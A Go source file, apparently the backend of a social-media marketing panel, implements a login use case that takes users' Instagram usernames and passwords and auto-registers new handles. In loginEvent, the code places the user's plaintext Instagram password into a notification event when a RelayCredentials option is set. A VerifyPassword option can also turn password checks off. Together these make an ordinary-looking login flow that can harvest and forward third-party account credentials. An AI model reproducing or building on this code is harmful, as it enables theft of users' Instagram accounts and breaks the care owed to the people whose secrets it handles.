package account

import (
	"context"
	"errors"
	"strings"

	"github.com/amirhossein-jamali/smm-panel/internal/domain/entity"
	errs "github.com/amirhossein-jamali/smm-panel/internal/domain/error"
	"github.com/amirhossein-jamali/smm-panel/internal/domain/port/notification"
	"github.com/amirhossein-jamali/smm-panel/internal/domain/port/usecase"
)

// Login finds the account for the handle, auto-registering it on first use
func (u *UseCase) Login(ctx context.Context, input usecase.LoginInput) (*usecase.LoginResult, error) {
	username := strings.TrimSpace(input.InstagramUsername)
	if username == "" {
		return nil, errs.NewValidationError("instagramUsername", "must not be empty")
	}
	if input.Password == "" {
		return nil, errs.NewValidationError("password", "must not be empty")
	}

	result := &usecase.LoginResult{}

	user, err := u.gateway.GetUserByInstagramUsername(ctx, username)
	switch {
	case err == nil:
		if err := u.checkPassword(user, input.Password); err != nil {
			return nil, err
		}
	case errors.Is(err, errs.ErrUserNotFound):
		user, result.Registered, err = u.register(ctx, username, input.Password)
		if err != nil {
			return nil, err
		}
		if !result.Registered {
			// lost a registration race; the winner's row is authoritative
			if err := u.checkPassword(user, input.Password); err != nil {
				return nil, err
			}
		}
	default:
		return nil, err
	}

	count, err := u.gateway.AppendLoginLog(ctx, user.ID, user.InstagramUsername)
	if err != nil {
		u.logger.Warn("Failed to append login log", map[string]any{
			"userId": user.ID,
			"error":  err,
		})
	}
	result.LoginCount = count
	result.User = user

	u.logger.Info("User logged in", map[string]any{
		"userId":     user.ID,
		"uid":        user.UID,
		"registered": result.Registered,
		"loginCount": count,
	})

	return result, nil
}

func (u *UseCase) checkPassword(user *entity.User, password string) error {
	if !u.options.VerifyPassword {
		return nil
	}
	if !u.hasher.Verify(user.Password, password) {
		u.logger.Warn("Password verification failed", map[string]any{"userId": user.ID})
		return errs.ErrInvalidCredentials
	}
	return nil
}

// register creates the account. When a concurrent login created the same
// handle first, the existing row is returned with registered=false.
func (u *UseCase) register(ctx context.Context, username, password string) (*entity.User, bool, error) {
	stored, err := u.hasher.Hash(password)
	if err != nil {
		return nil, false, err
	}

	var lastErr error
	for attempt := 1; attempt <= maxIdentifierAttempts; attempt++ {
		user, err := entity.NewUser(u.generateUID(), username, stored, u.timeProvider.Now())
		if err != nil {
			return nil, false, err
		}

		err = u.gateway.CreateUser(ctx, user)
		if err == nil {
			u.logger.Info("User registered", map[string]any{
				"userId": user.ID,
				"uid":    user.UID,
			})
			u.notify(ctx, u.loginEvent(user, password))
			return user, true, nil
		}

		switch {
		case errs.IsConstraintViolationOn(err, "uid"):
			u.logger.Warn("Generated uid collided, retrying", map[string]any{
				"attempt": attempt,
				"uid":     user.UID,
			})
			lastErr = err
		case errs.IsConstraintViolationOn(err, "instagram_username"):
			existing, getErr := u.gateway.GetUserByInstagramUsername(ctx, username)
			if getErr != nil {
				return nil, false, getErr
			}
			return existing, false, nil
		default:
			return nil, false, err
		}
	}

	return nil, false, lastErr
}

func (u *UseCase) loginEvent(user *entity.User, password string) notification.Event {
	fields := map[string]string{
		notification.FieldUsername: user.InstagramUsername,
	}
	if u.options.RelayCredentials {
		fields[notification.FieldPassword] = password
	}

	return notification.Event{
		Action: notification.ActionLogin,
		UID:    user.UID,
		Fields: fields,
	}
}
